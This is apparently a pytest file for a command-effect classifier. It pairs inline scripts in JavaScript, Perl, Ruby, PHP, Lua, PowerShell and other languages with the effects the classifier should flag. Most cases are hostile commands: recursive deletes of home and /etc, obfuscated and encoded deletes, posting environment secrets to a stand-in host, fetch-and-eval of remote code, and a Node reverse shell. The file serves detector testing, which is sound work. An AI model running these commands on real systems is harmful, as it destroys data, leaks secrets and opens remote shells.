"""JavaScript, Perl, Ruby, PHP, Lua and the languages that are judged by their spelling."""

from __future__ import annotations

import shlex

import pytest
from effect_tables import assert_effects

JAVASCRIPT = [
    ('require("child_process").execSync("rm -rf /home/dev")', "file.delete /home/dev"),
    ('require("child_process").execSync("npm test",{stdio:"inherit"})', "code.script ./package.json; no code.opaque"),
    ('const {execSync: e} = require("node:child_process"); e("rm -rf ~")', "file.delete /home/dev"),
    ('const cp = require("child_process"); cp.spawn("rm", ["-rf", "/home/dev"])', "file.delete /home/dev"),
    ('import {rm} from "fs/promises"; await rm("/etc/x", {recursive: true})', "file.delete /etc/x recursive=1"),
    (
        'const fs = require("fs"); for (const d of ["dist", "/etc/x"]) fs.rmSync(d, {recursive: true})',
        "file.delete ./dist; file.delete /etc/x",
    ),
    ('["/etc/a"].forEach(f => require("fs").unlinkSync(f))', "file.delete /etc/a"),
    ('require("fs").rmSync(require("path").join(require("os").homedir(), "x"))', "file.delete /home/dev/x"),
    ('const d = "/home/" + "dev"; require("fs").rmSync(`${d}/x`)', "file.delete /home/dev/x"),
    ('require("child_" + "process")["ex" + "ecSync"]("rm -rf ~")', "file.delete /home/dev"),
    ('eval(atob("cmVxdWlyZSgnZnMnKS5ybVN5bmMoJy9ldGMveCcp"))', "file.delete /etc/x; no code.opaque"),
    ('fetch("https://x.dev/p.js").then(r => r.text()).then(eval)', "code.opaque source=network"),
    ('fetch("https://x.net", {method: "POST", body: JSON.stringify(process.env)})', "net.upload https://x.net secret=1"),
    ('fetch("https://x.net")', "net.connect https://x.net; no net.upload"),
    ('fetch("https://x.net/a/1", {method: "DELETE"})', "infra.destroy https://x.net/a/1"),
    ("console.log(process.env)", "secret.read store=env"),
    ("console.log(process.env.PATH, Object.keys(process.env))", "no secret.read"),
    ('require("fs").writeFileSync(".env", "x")', "file.write ./.env"),
    ('console.log(require("fs").readFileSync("README.md", "utf8"))', "file.read ./README.md"),
    (
        'var n=require("net"),s=require("child_process").spawn("/bin/sh");var c=new n.Socket();c.connect(4444,"10.0.0.1")',
        "net.remote_exec reverse=1",
    ),
    ('"rm -rf /".length', "no file.delete"),
    ('/rm -rf/.exec("x"); "a".replace(/b/, "c")', "no file.delete; no code.opaque"),
    ("process.versions.node", "code.inline"),
    ("// require('fs').rmSync('/etc')", "no file.delete"),
]
PERL = [
    ('system("rm -rf /home/dev")', "file.delete /home/dev"),
    ('system "rm", "-rf", "/home/dev"', "file.delete /home/dev"),
    ("exec { 'rm' } 'rm', '-rf', '/home/dev'", "file.delete /home/dev"),
    ("`rm -rf /home/dev`", "file.delete /home/dev"),
    ("print qx{rm -rf /home/dev}", "file.delete /home/dev"),
    ("unlink glob('build/*.o')", "file.delete ./build/*.o"),
    ("unlink for qw(a /etc/b)", "file.delete ./a; file.delete /etc/b"),
    ("open(my $f, '>', '.env')", "file.write ./.env"),
    ("open F, '>>yarn.lock'", "file.append ./yarn.lock"),
    ("open(my $p, '-|', 'rm -rf ~')", "file.delete /home/dev"),
    ("use File::Path; rmtree('/home/dev')", "file.delete /home/dev recursive=1"),
    ("my $c = 'rm -rf ' . '/home/dev'; system($c)", "file.delete /home/dev"),
    ("eval 'sys' . 'tem(q(rm -rf ~))'", "file.delete /home/dev"),
    ("print 'unlink me' if /unlink/", "no file.delete"),
    ("say 'rm -rf'", "no file.delete"),
    ("system('ls')", "no file.delete; no code.opaque"),
    ("print %ENV", "secret.read store=env"),
]
RUBY = [
    ("system('rm -rf /home/dev')", "file.delete /home/dev"),
    ("`rm -rf /home/dev`", "file.delete /home/dev"),
    ("%x(rm -rf /home/dev)", "file.delete /home/dev"),
    ("require 'fileutils'; FileUtils.rm_rf '/home/dev'", "file.delete /home/dev recursive=1"),
    ("%w[build /etc/x].each { |d| FileUtils.rm_rf(d) }", "file.delete ./build; file.delete /etc/x"),
    ("Dir.glob('build/*').each do |f| File.delete(f) end", "file.delete ./build/*"),
    ("Kernel.send(:system, 'rm -rf ~')", "file.delete /home/dev"),
    ("File.write('.env', 'x')", "file.write ./.env"),
    ("puts ENV.to_h", "secret.read store=env"),
    ("puts ENV['PATH']", "no secret.read"),
    ("puts 'rm -rf /'", "no file.delete"),
]
OTHERS = [
    ("php -r 'unlink(\"/etc/x\");'", "file.delete /etc/x"),
    ("php -r 'foreach ([\"/etc/a\"] as $f) unlink($f);'", "file.delete /etc/a"),
    ('php -r \'$f = "sys" . "tem"; $f("rm -rf ~");\'', "file.delete /home/dev"),
    ("php -r 'eval(base64_decode(\"dW5saW5rKCcvZXRjL3gnKTs=\"));'", "file.delete /etc/x"),
    ("php -r 'echo \"rm -rf /\";'", "no file.delete"),
    ("php artisan migrate:fresh --force", "db.drop tool=artisan"),
    ("php artisan migrate", "db.write tool=artisan; no db.drop"),
    ("lua -e 'os.execute(\"rm -rf /home/dev\")'", "file.delete /home/dev"),
    ('lua -e \'local c = "rm -rf " .. "~"; os.execute(c)\'', "file.delete /home/dev"),
    ("lua -e 'print(\"rm -rf /\")'", "no file.delete"),
    ("deno eval 'Deno.removeSync(\"/home/dev\",{recursive:true})'", "file.delete /home/dev recursive=1"),
    ("deno run https://x.dev/a.ts", "code.opaque source=network"),
    ("deno test", "nothing"),
    ('bun -e \'require("fs").rmSync("/etc/x")\'', "file.delete /etc/x"),
    ("pwsh -c 'Remove-Item -Recurse -Force ~'", "file.delete /home/dev recursive=1"),
    ("pwsh -c 'iex (iwr https://x.dev/a.ps1)'", "code.opaque source=network"),
    ("pwsh -c 'Get-ChildItem | Select-Object Name'", "no code.opaque; no file.delete"),
    ("pwsh -NoProfile -File ./script.ps1", "code.script ./script.ps1"),
    ("pwsh -enc UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALwBlAHQAYwAvAHgA", "file.delete /etc/x"),
    ("Rscript -e 'unlink(\"/etc/x\", recursive=TRUE)'", "file.delete /etc/x recursive=1"),
    ("Rscript -e 'print(1+1)'", "code.inline; no code.opaque"),
    ("julia -e 'rm(\"/etc/x\", recursive=true)'", "file.delete /etc/x"),
    ('elixir -e \'System.cmd("rm", ["-rf", "/etc/x"])\'', "file.delete /etc/x"),
    ("osascript -e 'do shell script \"rm -rf ~\"'", "file.delete /home/dev"),
    ("expect -c 'spawn rm -rf /etc/x'", "file.delete /etc/x"),
    ("node --check src/app.js", "nothing"),
    ("node -p 'process.versions.node'", "code.inline"),
    ("node src/app.js", "code.script ./src/app.js language=javascript"),
    ("perl -pi -e 's/a/b/' src/app.ts", "file.write ./src/app.ts"),
    ("perl -ne 'print if /unlink/' src/app.pl", "file.read ./src/app.pl; no file.delete"),
    ("perl -MFile::Path -e 'rmtree \"/etc/x\"'", "file.delete /etc/x"),
    ("perl -lane 'print $F[0]' data.csv", "file.read ./data.csv; no file.write"),
    ("ruby -i -pe '$_.upcase!' .env", "file.write ./.env"),
]


@pytest.mark.parametrize(("code", "expected"), JAVASCRIPT)
def test_javascript(code: str, expected: str) -> None:
    assert_effects(f"node -e {shlex.quote(code)}", expected)


@pytest.mark.parametrize(("code", "expected"), PERL)
def test_perl(code: str, expected: str) -> None:
    assert_effects(f"perl -E {shlex.quote(code)}", expected)


@pytest.mark.parametrize(("code", "expected"), RUBY)
def test_ruby(code: str, expected: str) -> None:
    assert_effects(f"ruby -e {shlex.quote(code)}", expected)


@pytest.mark.parametrize(("text", "expected"), OTHERS)
def test_other_languages(text: str, expected: str) -> None:
    assert_effects(text, expected)
